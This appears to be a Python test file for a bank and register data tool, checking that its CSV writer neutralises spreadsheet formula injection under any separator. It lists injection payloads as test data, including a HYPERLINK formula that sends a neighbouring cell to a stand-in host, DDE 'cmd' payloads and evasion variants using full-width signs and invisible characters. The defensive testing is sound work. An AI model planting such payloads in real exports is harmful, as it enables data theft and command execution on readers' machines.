"""A client of the bank, or a firm in the register, computes on the desk of whoever opens a result.

Who: somebody whose identifier or cell comes into a table that a person opens in a spreadsheet: results, rows set aside.
What they want: a cell that is computed there, and sends the rows beside it away. What stops them:
``lab.tables.spreadsheet_csv`` writes every CSV; no cell of it begins as a formula, under whatever separator it is
opened, and what is read back is what stood there.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lab.bank.portfolio import read_portfolio
from lab.bank.runs.results import match_table, write_result_table
from lab.bureau.configuration.home import BureauHome
from lab.bureau.data.register import RegisterLayout, import_register
from lab.bureau.store import Database, migrate, open_database
from lab.tables.spreadsheet_csv import escape_formulas, save_csv, unescape_formulas, write_csv
from lab.tables.table_reader import read_table
from tests.support.contract_papers import keyed

pytestmark = pytest.mark.threat(
    "Formulas in results",
    who="a stranger",
    wants="to have a cell computed by the spreadsheet of whoever opens a result",
    stopped_by={
        "formula guard": "One writer makes every CSV file for people. It follows OWASP's rule for formulas.",
    },
    code=["lab.tables.spreadsheet_csv"],
)

LINK = '=HYPERLINK("https://elsewhere.example/?"&A2,"open")'
FORMULAS = {
    "link": LINK,
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "wide": "＝1+1",
    "wide-minus": "－1＋1",
    "spaces": "  =1+1",
    "after-comma": "firm,=1+1",
    "after-semicolon": f"firm;{LINK};",
    "after-tab": "firm\t@SUM(1)",
    "after-quote": '";=1+1;"',
    "after-line": "firm\n=1+1",
    "no-break-space": "\u00a0=1+1",
    "undrawn": "\u200b\ufeff=1+1",
    "control": "\x0b\x0c@SUM(1)",
    "after-comma-undrawn": "firm,\u200b\u2009=1+1",
}
SEPARATORS = (",", ";", "\t", "|")
_SIGNS = tuple("=+-@＝＋－＠")
_BLANK = ' \u3000\t\r\n"\u00a0\u200b\u2009\ufeff\x0b\x0c'
_NUMBER = re.compile(r"-\d+(\.\d+)?([eE][+-]?\d+)?")


def computed(data: bytes) -> list[str]:
    """The cells that some spreadsheet computes, by OWASP's rule, whatever separator it takes the file to have, with
    quotation marks around text or without.

    What is blank or not drawn before a formula is passed over, as some do, and full width counts as half, as others do.
    """
    text = data.decode("utf-8-sig")
    cells: list[str] = []
    for separator in SEPARATORS:
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        cells += [cell for row in rows for cell in row]
        cells += [cell for line in re.split("[\r\n]", text) for cell in line.split(separator)]
    return [cell for cell in cells if cell.lstrip(_BLANK)[:1] in _SIGNS and not _NUMBER.fullmatch(cell)]


def former(table: pl.DataFrame) -> bytes:
    """The table as results were written before."""
    buffer = io.BytesIO()
    table.write_csv(buffer, include_bom=True)
    return buffer.getvalue()


@pytest.fixture
def result(tmp_path: Path) -> pl.DataFrame:
    """The result of matching a portfolio in which clients chose their numbers."""
    source = tmp_path / "portfolio.parquet"
    pl.DataFrame({"id": list(FORMULAS.values())}).write_parquet(source)
    portfolio = read_portfolio(source, kind="opaque", id_column="id")
    return match_table(portfolio, np.arange(len(portfolio.codes), dtype=np.int64))


@pytest.mark.without_control("formula guard")
def test_without_the_guard_a_clients_number_is_computed(result: pl.DataFrame) -> None:
    assert LINK in computed(former(result)) and len(computed(former(result))) > len(FORMULAS)


@pytest.mark.with_control("formula guard")
def test_no_cell_of_a_result_is_computed(result: pl.DataFrame, tmp_path: Path) -> None:
    write_result_table(result, tmp_path / "matched.csv")
    data = (tmp_path / "matched.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and computed(data) == []


def test_a_result_is_read_back_as_it_was(result: pl.DataFrame, tmp_path: Path) -> None:
    write_result_table(result, tmp_path / "matched.csv")
    again = read_table(tmp_path / "matched.csv").frame
    line_ends = [str(one).replace("\r", "\n") for one in result["id"].to_list()]  # as every table is read
    assert again["id"].to_list() == line_ends and again["status"].to_list() == result["status"].to_list()


@pytest.mark.parametrize("name", FORMULAS)
def test_each_formula_by_itself(name: str) -> None:
    table, buffer = pl.DataFrame({"id": [FORMULAS[name], None], "note": ["x", "y"]}), io.BytesIO()
    assert computed(former(table))
    write_csv(table, buffer)
    assert computed(buffer.getvalue()) == []


def test_numbers_stay_numbers() -> None:
    table = pl.DataFrame({"raw": [-1.25, 2.0, None], "score": [-3, 4, 5], "text": ["-7", "-1.5e-3", "12"]})
    buffer = io.BytesIO()
    write_csv(table, buffer)
    assert buffer.getvalue() == former(table) and pl.read_csv(buffer.getvalue()).dtypes[2] == pl.Float64


@pytest.fixture
def bureau(tmp_path: Path) -> tuple[Database, BureauHome]:
    """A bureau's store and folder."""
    home = BureauHome.create(tmp_path / "bureau", name="Test bureau")
    opened = open_database(f"sqlite:///{tmp_path / 'bureau.db'}")
    migrate(opened.engine)
    return keyed(opened), home


def test_rows_set_aside_are_not_computed_and_come_back_when_corrected(
    bureau: tuple[Database, BureauHome], tmp_path: Path
) -> None:
    store, home = bureau
    source = tmp_path / "register.csv"
    rows = pl.DataFrame({"id": ["a", "a", ""], "=name": ["x", LINK, "-1+1"], "tax": ["-5", "-6", "=2"]})
    rows.write_csv(source)
    done = import_register(store, home, source, RegisterLayout("id", "opaque"))
    assert done.set_aside == 2 and done.rejected_file is not None
    data = done.rejected_file.read_bytes()
    assert LINK.encode().replace(b'"', b'""') in data and computed(data) == []
    aside = read_table(done.rejected_file).frame
    assert aside["=name"].to_list() == [LINK, "-1+1"] and aside["tax"].to_list() == ["-6", "=2"]
    corrected = tmp_path / "corrected.csv"
    save_csv(aside.with_columns(id=pl.Series(["b", "c"])).drop("row", "reason"), corrected)
    again = import_register(store, home, corrected, RegisterLayout("id", "opaque"))
    assert again.rows == 2 and pl.read_parquet(home.path("registers/main-2.parquet"))["=name"].to_list() == [
        LINK,
        "-1+1",
    ]


@given(st.lists(st.text(st.sampled_from("=+-@＝－ '＇\t\r\n,;|\"a5.e\u3000﹣"), max_size=10), max_size=30))
@settings(max_examples=200, deadline=None)
def test_whatever_stands_in_a_cell_is_not_computed_and_not_lost(cells: list[str]) -> None:
    column = pl.Series("cell", cells, dtype=pl.String)
    assert unescape_formulas(escape_formulas(column)).to_list() == cells
    buffer = io.BytesIO()
    write_csv(column.to_frame(), buffer)
    assert computed(buffer.getvalue()) == []
